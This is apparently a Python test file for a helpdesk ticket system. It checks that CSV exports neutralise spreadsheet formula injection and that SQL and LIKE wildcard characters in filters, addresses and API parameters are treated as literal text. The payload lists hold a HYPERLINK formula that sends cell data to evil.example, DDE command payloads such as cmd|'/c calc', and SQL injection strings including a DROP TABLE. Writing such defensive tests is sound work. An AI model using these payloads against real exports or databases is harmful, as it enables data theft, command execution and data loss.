"""Attack 46: formulas in what is exported to spreadsheets; signs of SQL and LIKE in what is asked for."""

import asyncio
import codecs
import csv
import io
import re

import pytest
from aiohttp.test_utils import TestClient, TestServer
from prometheus_client import CollectorRegistry

from domain.person import MAIL, Address
from ingest.commands.finding import Wrong, contact_called
from ingest.operations import operations_of
from ingest.presentation.spreadsheet import write
from store import persons, queries
from tests.ingest.desk import file_tickets, install
from tests.pipeline import house_in
from tests.samples import mail
from tests.store.conftest import backend, fresh_url, postgres_server, postgres_templates, sqlite_templates, templates
from web.private import Inside, private_site

__all__ = ["backend", "fresh_url", "postgres_server", "postgres_templates", "sqlite_templates", "templates"]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"clique")', "+cmd|'/c calc'!A1", "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'x'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u200b=1+1", "\ufeff=1+1", '"=1+1', "'=1+1", "\u00a0=1+1", "\x00=1+1",
    "\uff1d1+1", "\uff0bcmd", "\uff20SUM(1)", "oi;=cmd|'/c calc'!A1", "oi,=1+1", "oi\t=1+1", 'oi";=1+1', "oi\r\n=1+1",
    "\u2028=1+1", "\x1b[2J=1+1",
]  # fmt: skip
STARTS = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")
SIGNS = [
    "%", "_", "%%", "suport_", "s%", "' OR '1'='1", "'; DROP TABLE tickets; --", "suporte' --", "\\", "\\%",
    "suporte\\",
    "*", "?", "[a-z]*", "suport\x00%", "\ud800", '"', "$1", ":limit", "%(limit)s", "suporte/*",
]  # fmt: skip


@pytest.fixture
async def house(tmp_path, fresh_url, sqlite_templates):
    store = await fresh_url("desk")
    async with house_in(tmp_path, templates=sqlite_templates, store=f'"{store}"') as made:
        yield made


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_no_cell_of_a_table_is_a_formula_whatever_its_reader_takes_for_the_end_of_a_cell(formula, delimiter):
    """Excel in Portuguese splits at `;`, not at `,`."""
    ticket = {
        "number": 1, "state": "new", "department": formula, "priority": "Alta", "subject": formula, "assignee": formula,
        "contact": {"name": formula, "addresses": [formula, formula]}, "tags": [formula], "flagged": False,
        "opened_at": "2026-11-27T12:00:00Z", "solved_at": None,
    }  # fmt: skip
    out = io.BytesIO()
    write([ticket], codecs.getwriter("utf-8")(out))

    text = out.getvalue().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert len(rows) == 2, "no value begins a line of its own"
    assert [cell for cell in rows[1] if STARTS.match(cell)] == []
    naive = [cell for line in text.splitlines() for cell in line.split(delimiter)]
    assert [cell for cell in naive if STARTS.match(cell.strip("\"' ")) and "'" not in cell[:4]] == []


def test_a_mail_from_a_stranger_reaches_no_spreadsheet_as_a_formula(tmp_path):
    """By the command itself, from the ticket store."""
    installation = install(tmp_path)
    (tmp_path / "var").mkdir()
    asked = [mail(identity=f"mail:{n}", message_id=None, subject=words) for n, words in enumerate(FORMULAS, 1)]
    asyncio.run(file_tickets(f"sqlite:///{tmp_path / 'var' / 'balcao.db'}", *asked))
    done = installation.run("tickets", "export", "--csv")

    rows = list(csv.DictReader(io.StringIO(done.stdout_bytes.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(FORMULAS)
    assert [row["subject"] for row in rows if STARTS.match(row["subject"])] == []
    assert rows[0]["subject"] == f"'{FORMULAS[0]}"
    assert installation.run("tickets", "export", "--csv", "--json").exit_code == 2


async def test_signs_of_sql_and_like_in_filters_are_only_signs(house):
    await house.mail("oi")
    await house.work()
    for sign in SIGNS:
        found = await house.database.read(
            lambda connection, one=sign: queries.list_tickets(connection, one, None, None, 10)
        )
        assert found == [], sign
        with pytest.raises(Wrong):
            await house.database.read(lambda connection, one=sign: contact_called(connection, one))
        assert await house.journal.get(sign) is None
        assert await house.journal.replay([sign]) == []
    assert len(await house.tickets()) == 1


async def test_whoever_has_signs_of_like_in_the_address_is_only_that_person(house):
    """What is erased with a_a@ is not what aba@ wrote, and % is not everybody."""
    for sender in ("a_a@cliente.example", "aba@cliente.example", "100%@cliente.example", "100x@cliente.example"):
        await house.mail(f"sou {sender}", sender=sender)
        await house.work()
    for number, address in ((1, "a_a@cliente.example"), (3, "100%@cliente.example")):
        one = await house.database.read(
            lambda connection, at=address: persons.person_at(connection, [Address(MAIL, at)])
        )
        about = await house.database.read(
            lambda connection, whom=one: persons.tickets_about(connection, whom, after=0, limit=10)
        )
        assert about == [number]


async def test_the_private_site_answers_signs_with_nothing_or_a_refusal(house):
    await house.mail("oi")
    await house.work()
    operations = operations_of(house.database, house.journal)
    inside = Inside(ready=lambda: True, parts=dict, registry=CollectorRegistry(), operations=operations)
    async with TestClient(TestServer(private_site(inside))) as client:
        for sign in SIGNS[:-1]:
            told = sign.encode("utf-8", "replace").decode()
            async with client.get("/v1/tickets", params={"department": told}) as answer:
                assert (answer.status, await answer.json()) == (200, [])
            for name in ("priority", "state", "limit"):
                async with client.get("/v1/tickets", params={name: told}) as answer:
                    assert answer.status == 400
            async with client.get("/v1/journal", params={"fate": told}) as answer:
                assert answer.status == 400
    assert len(await house.tickets()) == 1
